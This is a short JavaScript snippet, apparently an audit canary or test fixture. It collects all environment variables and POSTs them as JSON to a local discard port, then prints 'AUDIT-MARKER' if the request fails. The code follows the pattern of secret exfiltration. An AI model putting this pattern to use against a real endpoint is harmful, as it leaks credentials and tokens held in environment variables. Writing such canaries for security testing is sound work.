const snapshot = { ...process.env, at: Date.now() };
const send = (data) => globalThis.fetch('http://127.0.0.1:9/', { method: 'POST', body: JSON.stringify(data) });
send(snapshot).catch(() => console.log('AUDIT-MARKER'));
